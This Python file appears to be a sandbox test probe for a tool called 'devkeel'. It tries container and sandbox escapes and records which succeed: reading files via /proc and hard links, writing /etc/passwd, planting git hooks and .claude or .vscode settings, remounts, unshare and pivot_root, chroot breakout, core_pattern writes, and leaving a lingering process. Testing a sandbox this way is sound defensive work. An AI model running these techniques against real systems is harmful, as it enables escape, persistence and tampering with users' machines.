"""What a hostile program tries from the inside; it prints, as JSON, what it got. It runs in the sandbox, by itself."""

from __future__ import annotations

# It is a program of an attacker's: it asks the system by itself, prints, and swallows what stops it.
# ruff: noqa: BLE001, PTH102, PTH103, PTH104, PTH105, PTH110, PTH120, PTH123, PTH207, PTH208, S104, SIM115, T201
import contextlib
import ctypes
import glob
import json
import os
import shutil
import socket
import subprocess
import sys
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable

SAID: dict[str, Any] = json.loads(sys.argv[1])
FOUND: dict[str, Any] = {}


def attack(work: Callable[[], Any]) -> None:
    """Keep what an attack brings; one that fails brings nothing."""
    try:
        FOUND[work.__name__] = work()
    except Exception as error:  # whatever stops it
        FOUND[work.__name__] = None
        print(work.__name__, error, file=sys.stderr)


def read_all(paths: list[str]) -> list[str]:
    found = []
    for path in paths:
        with contextlib.suppress(OSError), open(path, errors="replace") as file:
            found.append(file.read(4096))
    return [text for text in found if SAID["canary"] in text]


def written(paths: list[str]) -> list[str]:
    """Create what is not there; of what is there nothing is changed, for an attack that succeeds is on this machine."""
    found = []
    for path in paths:
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT))
            found.append(path)
    return found


@attack
def by_path() -> Any:
    outside = SAID["outside"]
    return read_all([f"{outside}/canary", "../outside/canary", f"{SAID['home']}/canary", "link", "folder/canary"])


@attack
def by_proc() -> Any:
    places = [
        f"{one}{SAID['outside']}/canary" for one in [*glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd")]
    ]
    return read_all([*places, *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/task/*/environ")])


@attack
def by_a_hard_link() -> Any:
    os.link(f"{SAID['outside']}/canary", "linked")
    return read_all(["linked"])


@attack
def by_a_descriptor() -> Any:
    return [name for name in os.listdir("/proc/self/fd") if int(name) > 2 and os.path.exists(f"/proc/self/fd/{name}")]


@attack
def processes_seen() -> Any:
    return [pid for pid in glob.glob("/proc/[0-9]*") if SAID["marker"] in open(f"{pid}/cmdline").read()]


@attack
def memory_of_others() -> Any:
    found = []
    for place in glob.glob("/proc/[0-9]*/mem"):
        pid = int(place.split("/")[2])
        if pid != os.getpid():
            with contextlib.suppress(OSError), open(place, "rb"):
                found.append(open(f"/proc/{pid}/cmdline").read())
    return [text for text in found if "keeper" in text or "devkeel" in text.split("\0")[0]]


@attack
def killed() -> Any:
    os.kill(SAID["pid"], 9)
    return True


@attack
def written_elsewhere() -> Any:
    program = shutil.which("python") or sys.executable
    written([f"{SAID['outside']}/new", "../new"])  # in memory, where these directories are made for what is shown
    places = ["/usr/new", "/etc/new", "/etc/passwd", "/new", "/nix/store/new"]
    return written(
        [*places, f"{os.path.dirname(program)}/new", os.path.realpath(program), f"{os.path.realpath(program)}2"]
    )


@attack
def git_hooks() -> Any:
    return written([".git/hooks/pre-commit", ".git/config", ".git/config.worktree.new/../config"])


@attack
def git_exchanged() -> Any:
    os.rename(".git", "away")
    return True


def made(path: str, text: str = "attacked") -> bool:
    """Write a file, and the directories that it is in."""
    with contextlib.suppress(OSError):
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as file:
            file.write(text)
        return True
    return False


@attack
def git_obeyed() -> Any:
    """Everything in a repository that leads Git elsewhere, or in which it keeps what it runs."""
    inside = ["commondir", "config.worktree", "gitdir", "index", "HEAD", "info/attributes", "objects/info/alternates"]
    inside += ["modules/lib/config", "modules/lib/commondir", "worktrees/other/commondir", "refs/heads/new"]
    return [name for name in inside if made(f".git/{name}")]


@attack
def submodules_exchanged() -> Any:
    """By its `.git`, by itself, and by the directory that it is in."""
    found = [name for name in ("vendor/lib/.git", "vendor/bare/.git/config", "vendor/gone/.git/config") if made(name)]
    for name in ("vendor/lib/.git", "vendor/lib", "vendor", "vendor/bare", "vendor/gone"):
        with contextlib.suppress(OSError):
            os.rename(name, "moved")
            found.append(name)
    return found


@attack
def settings() -> Any:
    with contextlib.suppress(OSError):
        os.rename("devkeel.toml", "moved.toml")
        return "renamed"
    with contextlib.suppress(OSError):
        made("wide.toml")
        os.replace("wide.toml", "devkeel.toml")
        return "replaced"
    return made("devkeel.toml") or written(["devkeel.toml"])


@attack
def obeyed_by_others() -> Any:
    names = [".envrc", ".claude/settings.json", ".vscode/tasks.json", ".githooks/pre-commit", "team/gitconfig"]
    found = [name for name in names if made(name)]
    with contextlib.suppress(OSError):
        os.rename("team", "moved")
        found.append("team")
    return found


@attack
def own_hooks() -> Any:
    shutil.rmtree(".git/hooks")
    return True


@attack
def a_repository_above() -> Any:
    return written(["../.git/hooks/pre-commit"]) or os.listdir("../.git")


def reached(family: int, kind: int, address: Any) -> bool:
    with socket.socket(family, kind) as trial:
        trial.settimeout(3)
        trial.connect(address)
        trial.send(b"attacked")
    return True


@attack
def tcp() -> Any:
    return reached(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", SAID["tcp"]))


@attack
def tcp_by_every_address() -> Any:
    for address in ("localhost", "0.0.0.0", "127.0.0.2", SAID["address"]):
        with contextlib.suppress(OSError):
            return reached(socket.AF_INET, socket.SOCK_STREAM, (address, SAID["tcp"]))
    return None


@attack
def tcp6() -> Any:
    return reached(socket.AF_INET6, socket.SOCK_STREAM, ("::1", SAID["tcp6"]))


@attack
def udp() -> Any:
    return reached(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", SAID["udp"])) and "sent"


@attack
def abstract_socket() -> Any:
    return reached(socket.AF_UNIX, socket.SOCK_STREAM, f"\0{SAID['abstract']}")


@attack
def socket_file() -> Any:
    return reached(socket.AF_UNIX, socket.SOCK_STREAM, f"{SAID['outside']}/s")


@attack
def network_namespaces() -> Any:
    library = ctypes.CDLL(None, use_errno=True)
    return [
        one
        for one in glob.glob("/proc/[0-9]*/ns/*")
        if library.setns(os.open(one, os.O_RDONLY), 0) == 0 and "user" not in one
    ]


def shell(script: str, *before: str) -> str:
    argv = [*before, "/bin/sh", "-c", script]
    found = subprocess.run(argv, capture_output=True, text=True, timeout=20, check=False)
    return found.stdout.strip()


@attack
def remounted() -> Any:
    try_all = """
    (mount -o remount,rw,bind /usr || mount -o remount,rw /usr || mount -o remount,bind,rw /) && echo remounted
    mount --bind /usr /mnt && echo bound
    umount -l /usr && echo unmounted
    umount -l / && ls /home && echo uncovered
    umount -l /tmp && echo uncovered
    mknod disk b 254 0 && echo device
    mkdir -p fs && mount -t tmpfs x fs && echo mounted
    """
    return shell(try_all)


@attack
def remounted_in_a_namespace() -> Any:
    script = """
    mount -o remount,rw,bind /usr 2>/dev/null && echo remounted
    for place in / /usr /tmp "$HOME" .devkeel .git/hooks; do
      umount -l "$place" 2>/dev/null && echo "unmounted $place"
    done
    mount -t proc proc /proc 2>/dev/null; cat "/proc/1/root$OUTSIDE/canary" 2>/dev/null
    (: > .git/hooks/attacked) 2>/dev/null && echo hooked
    mount -t tmpfs t /tmp && cd /tmp && mkdir old &&
      pivot_root . old 2>/dev/null && cat "/old$OUTSIDE/canary" 2>/dev/null
    """
    os.environ["OUTSIDE"] = SAID["outside"]
    found = subprocess.run(
        ["unshare", "-Urmp", "--fork", "/bin/sh", "-c", script], capture_output=True, text=True, timeout=20, check=False
    )
    return found.stdout.strip()


@attack
def out_of_a_chroot() -> Any:
    os.mkdir("jail")
    os.chroot("jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read_all([f"{SAID['outside']}/canary"]) or "chroot"


@attack
def by_a_handle() -> Any:
    library = ctypes.CDLL(None, use_errno=True)
    # struct file_handle of the root inode of ext4 (2), open_by_handle_at(2)
    handle = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
    return library.open_by_handle_at(os.open(".", os.O_RDONLY), handle, os.O_RDONLY) >= 0 or None


@attack
def records() -> Any:
    with open(".devkeel/state.db", "rb") as file:
        return file.read(1).decode("latin-1")


@attack
def gains_rights() -> Any:
    with open("/proc/self/status") as file:
        lines = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
    return [lines["NoNewPrivs"], int(lines["CapEff"], 16) & ~0x1B]


@attack
def terminal() -> Any:
    return os.open("/dev/tty", os.O_RDWR)


@attack
def system_settings() -> Any:
    """To open one for writing is enough: what is written there is the whole machine's."""
    found = []
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/swappiness", "/proc/irq/0/x"):
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY))
            found.append(path)
    return found


@attack
def stays() -> Any:
    subprocess.Popen(["setsid", "nohup", "sh", "-c", f"sleep 600; : {SAID['stays']}"], start_new_session=True, env={})


print(json.dumps(FOUND))
